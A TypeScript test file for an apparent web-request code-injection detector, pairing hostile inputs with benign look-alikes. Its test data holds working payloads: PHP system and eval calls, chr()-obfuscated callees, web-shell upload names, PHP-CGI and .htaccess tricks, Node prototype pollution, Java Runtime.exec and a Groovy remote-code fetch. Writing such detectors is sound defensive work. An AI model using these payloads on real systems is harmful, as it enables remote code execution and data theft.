import { describe, expect, test } from "bun:test";
import { codeAnalyzer, phpDispatch } from "../../../src/detect/analyzers/code.ts";
import { decompose } from "../../../src/decompose/index.ts";
import { isParseError } from "../../../src/core/http-request.ts";
import { rawHttpParser } from "../../../src/parse/raw-http.ts";
import { evidence, junk, strength, strongest } from "./helpers.ts";

const s = (text: string) => strength(codeAnalyzer, text);
const key = (text: string) => strength(codeAnalyzer, text, { kind: "key", name: text });
/** The strength of one rule's finding in a value (0 without one). */
const analyzeRule = (text: string, rule: string) => codeAnalyzer.analyze({ text, location: "query", path: "query.q", name: "q", kind: "value" }).find((f) => f.rule === rule)?.strength ?? 0;

describe("code analyzer", () => {
  test("PHP: tags, calls with a code argument, superglobals, interpolation", () => {
    expect(s("<?php echo 1; ?>")).toBe(0.9);
    expect(s("<?=`id`?>")).toBe(0.85);
    expect(s(";system('cat /etc/passwd')")).toBe(0.9);
    expect(s("SyStEm ( $_GET[0] )")).toBe(0.9);
    expect(s("assert(base64_decode('c3lzdGVtKCdpZCcp'))")).toBe(0.9);
    expect(s("phpinfo()")).toBe(0.85);
    expect(s("{${phpinfo()}}")).toBe(0.85);
    expect(s("x=$_POST['a']")).toBe(0.85);
    expect(strongest(codeAnalyzer, "<?php")!.class).toBe("code-injection");
  });

  test("PHP: short open tags, but not an XML declaration", () => {
    expect(s('<?= "x"')).toBe(0.85);
    expect(s('<? php echo "x"')).toBe(0.85);
    expect(s("<? echo 1")).toBe(0.85);
    expect(s('<?xml version="1.0"?>')).toBe(0);
    expect(s("<?=1")).toBe(0);
  });

  test("PHP: built-ins no other language names are PHP when called, whatever the argument", () => {
    expect(s("base64_decode()")).toBe(0.8);
    expect(s("posix_getpwuid(0)")).toBe(0.8);
    expect(s("curl_init ( )")).toBe(0.8);
    expect(s("gzuncompress/*c*/($x)")).toBe(0.8);
    // Part of a longer name is another function.
    expect(s("my_base64_decode()")).toBe(0);
  });

  test("PHP: calls whose callee is a variable, a quoted or bracketed name, or glued strings", () => {
    expect(s("$a(1)")).toBe(0.8);
    expect(s("$f($x)")).toBe(0.8);
    for (const v of ["@$__[o](4)", "$$b(2)", "${@a}(10)", "$O00{0}(15)", "$GLOBALS['x'](1)"]) expect(s(v)).toBe(0.85);
    for (const v of ["(system)(ls);", '"system"(ls);', "[system][0](ls);", "(string)'exec'('id');", '("system")("id")']) expect(s(v)).toBe(0.9);
    expect(s("$y = 'sys'.'tem'; $y('id');")).toBe(0.85);
    // A callee by bitwise NOT of high bytes, as a decoded query holds them (Windows-1252).
    for (const v of ["(~\u0152\u2020\u0152\u2039\u0161\u2019)(~\u2013\u203a);", "(~'\u00ab\u00ac')('x')"]) expect([v, s(v)]).toEqual([v, 0.85]);
    for (const v of ["(~東京)(x)", "price (~€20) (approx)", "(~ab)(c)"]) expect([v, s(v)]).toEqual([v, 0]);
    // Glued from bare words (PHP 7 reads an unknown one as its name), pieces in parentheses of their own.
    for (const v of ["(sy.(st).em)('uname');", "(sy.st.em) ('id')", "('sy'.('st').'em')($_GET[1])", "(sy.st.em)\t('id')", "(sy.st.em)\n  ('id')", "(sy.st.em)/**/('id')"]) expect([v, s(v)]).toEqual([v, 0.85]);
    for (const v of ["(see p.5) (and p.6)", "(v1.2.3)(beta)", "(a.b)(c)", "(Mr. Smith) (the owner)"]) expect([v, s(v)]).toEqual([v, 0]);
    // An index that is itself indexed, and PHP's three kinds of comment between the callee's parts.
    for (const v of ["$__[$_[1]](7)", "$_aB_4c #foo\r\n\t[5]//bar\r\n\t['d'] /*foo*/ (17)"]) expect(s(v)).toBe(0.85);
    expect(s("$a //x\n()")).toBe(0.8);
    expect(strongest(codeAnalyzer, "$a(1)")!.rule).toBe("code.php-variable-call");
    // Prices, jQuery, a template helper with a string key, other glued strings.
    for (const v of ["costs $100(USD)", "$(document).ready(f)", "jQuery $.ajax(u)", "'foo'.'bar'", "the (system) (in use)", 'the "eval" (evaluation) form']) expect(s(v)).toBe(0);
    expect(s("$t('menu.home')")).toBeLessThan(0.8);
    // XSLT's call of a PHP function by name, as an attribute of a stylesheet's element holds it.
    for (const v of ["php:function('system','id')", 'php:function( "file_get_contents" , "/etc/passwd")', "x:function('system','id')", "php:functionString('passthru','ls')"]) expect([v, strongest(codeAnalyzer, v)?.rule, s(v)]).toEqual([v, "code.php-call", 0.9]);
    expect(s("php:function('strtoupper', string(.))")).toBe(0);
    // LaTeX's inline math closes its `$` on the line, around an argument with no PHP in it.
    for (const v of ["Compute $E(X)$ for a die", "$P(A \\mid B) = 0.3$", "let $f(x)$ be continuous, $T(n) = 2T(n/2) + n$"]) expect([v, s(v)]).toEqual([v, 0]);
    for (const v of ["$a(base64_decode($_POST[x]))", "$x(whoami);$y", "$f(x) = x^2", "$f(x)$ $$b(id)", "$a(id)/*$*/", "$a(id)#$"]) expect([v, s(v) >= 0.8]).toEqual([v, true]);
  });

  test("an upload named as a server script is a web shell", () => {
    const file = (name: string) => strength(codeAnalyzer, name, { kind: "filename", location: "body", name: "file" });
    for (const v of ["shell.php", "a.phtml", "x.php5..", "cmd.jsp", "cmd.jspx. ", "up.aspx", "evil.phar"]) expect(file(v)).toBe(0.85);
    expect(strength(codeAnalyzer, "a.php", { location: "header", name: "x-filename", path: "header.x-filename" })).toBe(0.85);
    for (const v of ["photo.jpg", "notes.php.txt", "report.pdf"]) expect(file(v)).toBe(0);
    // A value that names a script is a link, not an upload.
    expect(s("index.php")).toBe(0);
    // A NUL ends the name where C code reads it; an image's extension after a script's passes a form's check.
    for (const v of ["shell.php%00.jpg", "shell.php\u0000.jpg", "shell.jsp\\0.png"]) expect(file(v)).toBe(0.85);
    expect(file("shell.php.jpg")).toBe(0.6);
    expect(file("my.photos.png")).toBe(0);
    // IIS ends a name at `;`.
    for (const v of ["shell.asp;.jpg", "x.aspx;1.png"]) expect(file(v)).toBe(0.85);
    expect(file("my;photo.jpg")).toBe(0);
  });

  test("an upload named by an absolute path chooses where the file lands", () => {
    const rule = (name: string) => strongest(codeAnalyzer, name, { kind: "filename", location: "body", name: "file" });
    for (const v of ["/tmp/sess_d8ew88tq", "/var/www/html/x.jpg", "//etc/cron.d/job"]) expect([v, rule(v)?.rule, rule(v)?.strength]).toEqual([v, "code.upload-to-path", 0.85]);
    // A base name, a folder upload's relative path, mobile apps' own storage, old Internet Explorer's Windows path.
    for (const v of ["photo.jpg", "/photo.jpg", "photos/2024/a.jpg", "/storage/emulated/0/DCIM/Camera/IMG_1.jpg", "/private/var/mobile/Containers/Data/photo.jpg", "/data/user/0/com.acme.app/cache/a.jpg", "C:\\Users\\bob\\Desktop\\photo.jpg"]) expect([v, rule(v)]).toEqual([v, null]);
  });

  test("an upload of a server's per-directory configuration, and the directives that make a directory run scripts", () => {
    const file = (name: string) => strength(codeAnalyzer, name, { kind: "filename", location: "body", name: "file" });
    for (const v of [".htaccess", "uploads/.user.ini", "web.config", "..\\web.config"]) expect(file(v)).toBe(0.85);
    for (const v of ["web.config.bak", "htaccess.txt", "my.user.ini.md"]) expect(file(v)).toBe(0);
    for (const v of ["AddType application/x-httpd-php .jpg", "SetHandler application/x-httpd-php", "addhandler cgi-script .txt", "PHP_VALUE auto_prepend_file=php://input"]) {
      expect(analyzeRule(v, "code.handler-directive")).toBe(0.7);
    }
    for (const v of ["AddType text/html .shtml", "This type of handler is great", "content_type=application/json; upload_file=cv.pdf"]) expect(analyzeRule(v, "code.handler-directive")).toBe(0);
  });

  test("Python's command runners: a call with a command is code, one named with nothing to run is a mention", () => {
    for (const v of ["os.system('id')", "os.popen('ls').read()", "subprocess.run(['id'])"]) expect(analyzeRule(v, v.includes("subprocess") ? "code.python-subprocess" : "code.python-os")).toBe(0.9);
    expect(analyzeRule("how to use os.system() in python", "code.python-os")).toBe(0.5);
    expect(analyzeRule("Why is subprocess.run() considered safe?", "code.python-subprocess")).toBe(0.5);
    // A call named first hides no call that runs something after it.
    expect(analyzeRule("os.system() or os.system('id')", "code.python-os")).toBe(0.9);
  });

  test("Groovy: a string, or a list of strings, run as a command by execute()", () => {
    for (const v of ['println "id".execute().text', '["sh","-c","id"].execute()', "def p = 'cat /etc/passwd'.execute()"]) expect([v, analyzeRule(v, "code.groovy-execute")]).toEqual([v, 0.85]);
    // A method of an object, a prepared statement, an element of a list, a string subscript (Gradle's `tasks['clean']`).
    for (const v of ["tasks[0].execute()", "stmt.execute()", 'db.prepare("select 1").execute()', "tasks['clean'].execute()", 'commands["deploy"].execute()']) {
      expect([v, analyzeRule(v, "code.groovy-execute")]).toEqual([v, 0]);
    }
  });

  test("PHP-CGI's command line in a query string: -d (or a soft hyphen) with a directive that runs what the request sends", () => {
    // A query parameter as the decompose stage hands it over: `?-d+safe_mode%3d0` is the key `-d safe_mode=0`.
    for (const v of ["-d allow_url_include=1 -d auto_prepend_file=php://input", "\u00add allow_url_include=1 \u00add auto_prepend_file=php://input", "-d safe_mode=0"]) {
      expect([v, analyzeRule(v, "code.php-cgi-argument")]).toEqual([v, 0.9]);
    }
    // Prose about the flag, the flag inside a value, a form field rather than the query.
    for (const v of ["add allow_url_include=1", "the -d option sets safe_mode = off in docs", "Set -d safe_mode=0 in your ini", "id=-d&x=1"]) expect(analyzeRule(v, "code.php-cgi-argument")).toBe(0);
    const inBody = codeAnalyzer.analyze({ text: "-d allow_url_include=1", location: "body", path: "body.q", name: "q", kind: "value" });
    expect(inBody.find((f) => f.rule === "code.php-cgi-argument")).toBeUndefined();
  });

  test("PHP: a function that runs a command, called with a bare command (PHP before 8 reads it as a string)", () => {
    expect(s("system(whoami)")).toBe(0.85);
    expect(s("exec( /usr/bin/id )")).toBe(0.85);
    expect(strongest(codeAnalyzer, "system(whoami)")!.rule).toBe("code.php-command");
    // A command that is also an English word counts less.
    expect(s("passthru(ls)")).toBe(0.7);
    // Not a command, or not a function that runs one.
    for (const v of ["system(s)", "exec(utive)", "include(whoami)", "system(whoami and more)"]) expect(s(v)).toBe(0);
    expect(evidence(codeAnalyzer, "x=system(whoami);")).toBe("system(whoami)");
  });

  test("PHP: a value that is only the name of a function that runs code or commands, for a dispatcher that calls it", () => {
    expect(s("call_user_func_array")).toBe(0.75);
    expect(s(" Shell_Exec ")).toBe(0.75);
    expect(strongest(codeAnalyzer, "passthru")!.rule).toBe("code.php-function-name");
    // Ordinary words and other functions, a name inside prose, a key.
    for (const v of ["system", "exec", "eval", "array_map", "call_user_func_array is deprecated"]) expect(s(v)).toBe(0);
    expect(key("call_user_func_array")).toBe(0);
  });

  test("PHP: a dispatched function named beside the function it is to call, in one request, on the target", () => {
    const dispatch = (target: string) => {
      const req = rawHttpParser.parse(`GET ${target} HTTP/1.1\r\nHost: a\r\n\r\n`, { source: "t" });
      if (isParseError(req)) throw new Error(req.reason);
      const { leaves } = decompose(req);
      return phpDispatch(leaves, leaves.map((l) => codeAnalyzer.analyze(l))).map(({ at, finding }) => [leaves[at]!.path, finding.rule, finding.strength]);
    };
    expect(dispatch("/index.php?function=call_user_func_array&vars[0]=system&vars[1][]=id")).toEqual([["query.vars[0]", "code.php-dispatch", 0.9]]);
    expect(dispatch("/api?cb=Shell_Exec&f=assert")).toEqual([["query.f", "code.php-dispatch", 0.9]]);
    expect(dispatch("/api?cb=call_user_func&f=passthru")).toEqual([["query.f", "code.php-dispatch", 0.9]]);
    // One of the two alone is a word or the 0.75 name.
    for (const t of ["/fonts?family=system", "/docs?q=call_user_func_array", "/docs?q=shell_exec", "/a?theme=system&mode=exec"]) expect([t, dispatch(t)]).toEqual([t, []]);
  });

  test("PHP: a route to a namespaced class and its method; byte escapes and Windows paths are none", () => {
    expect(analyzeRule("/index/\\think\\app/invokefunction", "code.php-class-route")).toBe(0.85);
    expect(analyzeRule("index/\\Vendor\\Http\\Request::input", "code.php-class-route")).toBe(0.85);
    expect(evidence(codeAnalyzer, "index/\\think\\Container/invokefunction")).toBe("/\\think\\Container/invokefunction");
    for (const v of ["\\xd0\\xb0\\xd0\\xb1/x", "C:\\Users\\ann\\notes/todo", "\\\\server\\share/dir", "\\frac\\alpha"]) expect([v, analyzeRule(v, "code.php-class-route")]).toEqual([v, 0]);
  });

  test("a value that ends its statement and makes a call as one of its own: strong when the call's argument is code", () => {
    for (const v of [";print(md5(1));", "';die(md5(marker));$a='", "\";var_dump(md5(1));//", "1;print(md5(scanner_marker));", ");echo($x);"]) {
      expect([v, analyzeRule(v, "code.statement-call")]).toEqual([v, 0.85]);
    }
    expect(analyzeRule(";foo(1);", "code.statement-call")).toBe(0.75);
    // Or joins the call to the string it closed (a scanner's probe of a PHP eval).
    for (const v of ["\".exit(md5('w4p1t1_md5'));//", "'.exit(md5('x'));#", "'.die(md5(1)).'"]) expect([v, analyzeRule(v, "code.statement-call")]).toEqual([v, 0.85]);
    expect(evidence(codeAnalyzer, "'.exit(md5('x'));#")).toBe(".exit(md5('x'));");
    expect(evidence(codeAnalyzer, "';die(md5(marker));$a='")).toBe(";die(md5(marker));");
    // A call that ends no statement, a statement that makes no call, prose and CSS.
    for (const v of [";print(md5(1))", "a; b(c); d", "1; print(md5(1));", "see foo(); then bar();", "color:red;font(x);", "x;y;z", "Hello; call(me) maybe;", "v1.2(beta);", "\"\".join(parts);", "''.join(reversed(s));", "\"hello\".toUpperCase();"]) {
      expect([v, analyzeRule(v, "code.statement-call")]).toEqual([v, 0]);
    }
  });

  test("a function name in prose is no call", () => {
    for (const v of ["system(s)", "the system (for now)", "exec(utive) summary", "include (optional)", "my_system('x')", "obj.eval(1)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"]) {
      expect(s(v)).toBe(0);
    }
  });

  test("Node.js: child_process, process.mainModule, prototype pollution", () => {
    expect(s("require('child_process').exec('id')")).toBe(0.95);
    expect(s("process.mainModule.require('fs')")).toBe(0.9);
    expect(s('{"__proto__":{"isAdmin":true}}')).toBe(0.85);
    expect(key("__proto__[isAdmin]")).toBe(0.9);
    expect(key("a[constructor][prototype][x]")).toBe(0.9);
    expect(key("constructorName")).toBe(0);
    // A property path for the application to set: JSON Patch's pointer, a route's segments, a dotted path alone.
    for (const v of ["/__proto__/isAdmin", "/api/settings/a/__proto__/polluted", "__proto__", "/constructor/prototype/admin", "constructor.prototype.admin"]) expect([v, s(v)]).toEqual([v, 0.85]);
    for (const v of ["Why is Foo.constructor.prototype undefined?", "my__proto__name", "/docs/proto/intro"]) expect([v, s(v)]).toEqual([v, 0]);
  });

  test("React Server Components: a Flight reference that walks into the prototype chain", () => {
    for (const v of ["$1:__proto__:then", "$3:constructor:constructor", "$b:_response:constructor:constructor", "$1:x-y:__proto__:then", "$1:a.b:__proto__"]) expect(s(v)).toBe(0.9);
    expect(strongest(codeAnalyzer, "$1:__proto__:then")!.rule).toBe("code.flight-reference");
    // An ordinary reference, and a time before the word.
    for (const v of ["$1:props:children", "$5:constructor", "at 10:30 constructor"]) expect(s(v)).toBeLessThan(0.5);
  });

  test("a value stored under a polluting key in its path, where the key is no leaf of its own", () => {
    const under = (path: string) => strength(codeAnalyzer, "1", { path, name: path.slice(path.lastIndexOf(".") + 1) });
    for (const p of ["query.__proto__.admin", "query.__proto__[jquery]", "body.json.title.__proto__.where.name", "query.constructor[prototype][x]"]) expect(under(p)).toBe(0.9);
    for (const p of ["query.proto", "query.prototype", "body.json.constructor.name", "query.my__proto__field"]) expect(under(p)).toBe(0);
    // Python's class pollution: from an object to its class's constructor and the module's globals; a type tag alone is none.
    for (const p of ["body.json.__class__.__init__.__globals__.app.config.SECRET_KEY", "body.json.x.__globals__.y"]) expect(under(p)).toBe(0.9);
    for (const p of ["body.json.__class__", "body.json.__init__.x", "body.json.__typename"]) expect(under(p)).toBe(0);
    // A key leaf that is the polluting key itself (`{"constructor": {"prototype": {...}}}`).
    expect(strength(codeAnalyzer, "prototype", { kind: "key", path: "body.json.constructor.prototype", name: "prototype" })).toBe(0.9);
    expect(strength(codeAnalyzer, "prototype", { kind: "key", path: "body.json.product.prototype", name: "prototype" })).toBe(0);
    // A header named so is no object being merged.
    expect(strength(codeAnalyzer, "1", { path: "header.__proto__", location: "header" })).toBe(0);
  });

  test("Java: Runtime.exec, ProcessBuilder, class loader property paths, reflection", () => {
    expect(s('java.lang.Runtime.getRuntime().exec("id")')).toBe(0.95);
    expect(s('new ProcessBuilder("id").start()')).toBe(0.9);
    expect(s("Class.forName('java.lang.Runtime')")).toBe(0.9);
    expect(key("class.module.classLoader.resources.context.parent.pipeline.first.pattern")).toBe(0.95);
    expect(key("class['classLoader'].URLs[0]")).toBe(0.95);
    for (const v of ["class['module']['classLoader']['resources']", "class[module][classLoader].x", 'class["module"].classLoader']) expect([v, key(v)]).toEqual([v, 0.95]);
    expect(s("java.io.FileInputStream")).toBe(0.7);
    expect(s("ProcessBuilder.start")).toBe(0.85);
    expect(s("the ProcessBuilder class")).toBe(0.6);
  });

  test("Java packages an exploit reaches for, however the binder cased them; ordinary packages are not", () => {
    for (const v of ["java.lang.reflect", "javax.script.ScriptEngineManager", "javax.naming.InitialContext", "com.sun.org.apache.xalan", "org.apache.commons.collections.functors", "org.omg.CORBA", "com.opensymphony.xwork2", "java.Runtime", "java.evil.processbuilder", "java.rmi.server"]) {
      expect(s(v)).toBeGreaterThanOrEqual(0.7);
    }
    for (const v of ["org.apache.commons.lang3", "com.example.app", "www.java.com", "Java runtime environment", "org.apache.http.client"]) expect(s(v)).toBe(0);
    // Value types and exceptions, as a client's error report names them.
    for (const v of ["Cannot deserialize instance of `java.util.ArrayList<java.lang.Integer>`", "java.io.IOException: closed", "java.net.SocketTimeoutException"]) expect(s(v)).toBe(0);
    expect(s("java.lang.ClassLoader")).toBe(0.7);
  });

  test("Node.js: the process object's module, bindings and environment", () => {
    expect(s("process.mainModule.require('child_process')")).toBeGreaterThanOrEqual(0.9);
    expect(s("process['mainModule']")).toBe(0.9);
    expect(s("process.env")).toBe(0.6);
    expect(s('process["env"]')).toBe(0.6);
    for (const v of ["the process. environment", "process envelope", "processenv"]) expect(s(v)).toBe(0);
  });

  test("Python and Ruby", () => {
    expect(s("__import__('os').system('id')")).toBe(0.9);
    expect(s("subprocess.check_output(['id'])")).toBe(0.9);
    expect(s("Kernel.exec('id')")).toBe(0.9);
    expect(s("%x(id)")).toBe(0.8);
    expect(s('Process.spawn("id")')).toBe(0.9);
    expect(s("Process.exec('/bin/sh', '-c', 'id')")).toBe(0.9);
    // Node's lower-case `process` keeps its own rules; prose with the word stays quiet.
    expect(s("Process.env")).toBe(0);
    expect(s("the Process. spawn of salmon")).toBe(0);
  });

  test("calls a payload makes: PHP's eval probe, Node's process ended or its modules reached by quoted keys, Ruby's send of a symbol, COM objects, an empty endless loop", () => {
    const cases: [string, number][] = [
      ["print(md5(31337));", 0.85], ["'.print/**/(md5 (31337)).'", 0.85], ["${die(SHA1('x'))}", 0.85], ["echo md5('probe');", 0.85],
      ["process.kill(process.pid)", 0.85], ["1;process.exit(1)", 0.85], ["process['chdir']('/tmp')", 0.85],
      ["global['pro'+'cess']['mainModule'].require('fs')", 0.9], ["this['require']('child_process').exec('id')", 0.95],
      ["send(:system,'id')", 0.9], ["Kernel.public_send :exec, 'id'", 0.9], ["method(:system).call('id')", 0.9],
      ['Response.Write(CreateObject("WScript.Shell").Exec("cmd /c whoami").StdOut.ReadAll())', 0.9], ["new ActiveXObject('Scripting.FileSystemObject')", 0.9],
      ["price*1;while(true){}", 0.85], ["x;for(;;);", 0.85], ["1;while (1) ;", 0.85], ["while(true){}", 0.85],
      ["open('|id').read", 0.9], ['open(FH, "|/bin/sh -c id")', 0.9], ["instance_eval(\"sys'.'tem('whoami')\")", 0.85],
      ["array_map('system',array('id'));", 0.9], ["call_user_func('passthru', 'id')", 0.9], ["__builtins__.__dict__['__imp'+'ort__']('os')", 0.85], ["globals()['__builtins__']['__import__']('os').system('ls')", 0.85],
      ["import('child_process').then(m=>m.execSync('id'))", 0.95],
      ['<%eval request("pass")%>', 0.9], ['<% Execute(Request.Form("c")) %>', 0.9], ['System.Diagnostics.Process.Start("cmd.exe", "/c " + c)', 0.9],
    ];
    for (const [v, want] of cases) expect([v, s(v)]).toEqual([v, want]);
    // Code that does something, and prose: no payload.
    // A callback that is no command runner stays the call it is (PHP_CALLS' own strength).
    expect(s("array_map('trim', $a)")).toBe(0.75);
    for (const v of ["while (true) { poll(); }", "for (;;) { step(); }", "md5(password) is weak", "the process exits when done", "send(:email_confirmation)", "Use CreateObject to make a Word document", "process.exitCode = 1", "Process.Start(url) opens the browser", "we evaluate requests (eval) daily", "please open | close the door", "window.open('|')", "import('./chart.js')"]) {
      expect([v, s(v)]).toEqual([v, 0]);
    }
  });

  test("evidence is the construct", () => {
    expect(evidence(codeAnalyzer, "name=x&cb=require('child_process')")).toBe("require('child_process')");
  });

  test("a run of dotted names before a package is no cover: the regex reads it once (it backtracked until the engine gave up and matched nothing)", () => {
    expect(analyzeRule(`${"java.x.".repeat(15_000)} javax.naming.InitialContext`, "code.java-class")).toBe(0.7);
    expect(analyzeRule("java.x.".repeat(15_000), "code.java-class")).toBe(0);
    expect(analyzeRule("x=java.lang.Runtime", "code.java-class")).toBe(0.7);
    expect(analyzeRule("JAVA.LANG.PROCESSBUILDER", "code.java-class")).toBe(0.7);
  });

  test("a 1 MB value is judged whole, and binary junk gives no throw", () => {
    expect(s("(".repeat(500_000) + "x".repeat(500_000) + " passthru($c)")).toBe(0.9);
    expect(s("system( s) ".repeat(100_000))).toBe(0);
    expect(() => codeAnalyzer.analyze({ text: junk(200_000), location: "body", path: "body", name: "", kind: "text" })).not.toThrow();
  });

  test("a long run of blanks after a payload call's name is read once, and the call after it still found", () => {
    // Two blank runs around an optional `(` could share this stretch: tried at every split, it took quadratic time.
    const blanks = " ".repeat(300_000);
    for (const head of ["print", "process.kill", "instance_eval", "eval", "send", "open"]) expect([head, s(`${head}${blanks}x(`)]).toEqual([head, 0]);
    expect(s(`print${blanks}(md5(1))`)).toBe(0.85);
  });

  test("the cheap first checks keep every spelling: Unicode spaces, comments, any case where the regex ignores it", () => {
    expect(s("system\u00a0('id')")).toBe(0.9);
    expect(s("SYSTEM/*x*/('id')")).toBe(0.9);
    expect(s("x = PROCESSBUILDER.start")).toBe(0.85);
    expect(s("JAVA.LANG.RUNTIME.getRuntime")).toBe(0.85);
    expect(s("[ 'exec' ](ls)")).toBe(0.9);
    expect(s("os . system('id')")).toBe(0.9);
    expect(s("Tom's order #3: 2 x shoes (size 3), ship via \"express\"; ok?")).toBe(0);
  });
});

describe("code analyzer: round s22's fixes", () => {
  test("a function that runs commands, named in a parameter the application calls, is dispatch", () => {
    const named = (text: string, name: string) => codeAnalyzer.analyze({ text, location: "query", path: `query.${name}`, name, kind: "value" }).map((f) => f.rule);
    for (const [value, name] of [["exec", "hhook"], ["exec", "mail[#post_render][]"], ["system", "callback"], ["system", "filter[cb][]"], ["assert", "func"]] as const) {
      expect([name, named(value, name)]).toEqual([name, expect.arrayContaining(["code.php-callback"])]);
    }
    // A name that only holds such a word, a word in any other parameter, and a JSONP callback's own name, are not.
    for (const [value, name] of [["system", "hook_type"], ["exec", "job_function"], ["system", "log_handler"], ["system", "dysfunction"], ["system", "font"], ["jQuery123_456", "callback"]] as const) {
      expect([name, named(value, name)]).toEqual([name, []]);
    }
  });
});

describe("code analyzer: Node's loader kept in a name", () => {
  test("the module loader reached through mainModule from any object, then handed child_process, loads the command runner", () => {
    const pug = "- var x = root.process\n- x = x.mainModule.require\n- x = x('child_process')\n= x.execSync('id')";
    expect(codeAnalyzer.analyze({ text: pug, location: "body", path: "body.json.tpl", name: "tpl", kind: "value" }).map((f) => f.rule)).toContain("code.node-process");
    // A test's mock of the module, and prose naming it, are not.
    for (const v of ["the child_process module", "npm i child_process", "mainModule", "You need jest.mock('child_process') at the top", "vi.mock(\"node:child_process\")"]) expect([v, s(v)]).toEqual([v, 0]);
  });
});

describe("code analyzer: an empty loop on any constant", () => {
  test("a loop on a constant with no body is the denial of service an evaluator is sent, however the constant is spelled", () => {
    for (const v of ['while(!"");', "while(Infinity);", "while(new Date);", "while(!!{});", "while(!NaN)", "while((true)))", "while(String);"]) expect([v, analyzeRule(v, "code.empty-endless-loop")]).toEqual([v, 0.85]);
    // A loop that ends (a false constant, a do-while's own `while (0)`), one with a body, and a search naming one are not.
    for (const v of ["while(i < 10) {}", "while (x) {}", "while(true) { step(); }", "loop while(1) says", "while(false);", "do { int t=a; a=b; b=t; } while (0);", "java while(true)", "how to exit while(1)"]) {
      expect([v, analyzeRule(v, "code.empty-endless-loop")]).toEqual([v, 0]);
    }
  });
});

describe("code analyzer: round s23's fixes", () => {
  test("a render array's callback, which no form sends, given a function that runs commands, also one that is dispatched by name", () => {
    const callback = (text: string, name: string) => codeAnalyzer.analyze({ text, location: "query", path: `query.${name}`, name, kind: "value" }).find((f) => f.rule === "code.php-callback")?.strength ?? 0;
    for (const v of ["passthru", "shell_exec", "exec"]) expect([v, callback(v, "name[#post_render][]")]).toEqual([v, 0.95]);
    expect(callback("passthru", "hhook")).toBe(0.85);
    expect(callback("passthru", "name[#markup]")).toBe(0);
  });

  test("Lua's process calls and Groovy's Grape pointed at a server", () => {
    for (const v of ["function(vars) os.execute('id > /tmp/x'); return true end", "local f = io.popen('ls')"]) expect([v, analyzeRule(v, "code.lua-os")]).toEqual([v, 0.9]);
    expect(analyzeRule("@GrabResolver(name='x', root='http://198.51.100.7/')\n@Grab(group='x', module='poc', version='1')\nimport Poc;", "code.groovy-grab")).toBe(0.85);
    expect(analyzeRule("@Grab('org.x:lib:1.0')", "code.groovy-grab")).toBe(0.7);
    for (const v of ["os.execute()", "Use @Grab to pull deps"]) expect([v, s(v) >= 0.8]).toEqual([v, false]);
  });
});

describe("code analyzer: a blind round's evasions", () => {
  test("PHP: a callee built from character codes, quoted pieces among them, then called; a name no command spells, or codes printed, are not", () => {
    for (const v of [
      "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))(chr(105).chr(100));",
      "('sys'.chr(116).'em')('id');",
      "(chr(115) . chr(121) . chr(115) . chr(116) . chr(101) . chr(109))('id')",
      // Hex codes, codes past 255 (PHP takes them modulo 256), a comment before the call.
      "(chr(0x73).chr(0x79).chr(0x73).chr(0x74).chr(0x65).chr(0x6d))('id')",
      "(chr(371).chr(121).chr(115).chr(116).chr(101).chr(109))('id')",
      "(CHR(115).chr(121).chr(115).chr(116).chr(101).chr(109))/**/('id')",
    ]) {
      expect([v, strongest(codeAnalyzer, v)?.rule, s(v)]).toEqual([v, "code.php-variable-call", 0.85]);
    }
    for (const v of ["(chr(97).chr(98))(1)", "echo chr(65).chr(66);", "(chr(115).chr(121)) (see note)"]) expect([v, s(v)]).toEqual([v, 0]);
  });

  test("Ruby: a percent literal given a command runner is a string argument, as a quoted one is; Python's named placeholders are not", () => {
    for (const v of ["1+1;system(%q(id))", "exec(%w[cat /etc/passwd])", "system(%Q{id})", "system(%q/id/)"]) expect([v, strongest(codeAnalyzer, v)?.rule]).toEqual([v, "code.php-call"]);
    for (const v of ["system(%d)", "price(%)", "system(% of budget)", "exec(%(id)s)", "system(%(cmd)s)", "assert(%(value)s > 0)", "include(%q(header.php))"]) expect([v, s(v)]).toEqual([v, 0]);
  });
});
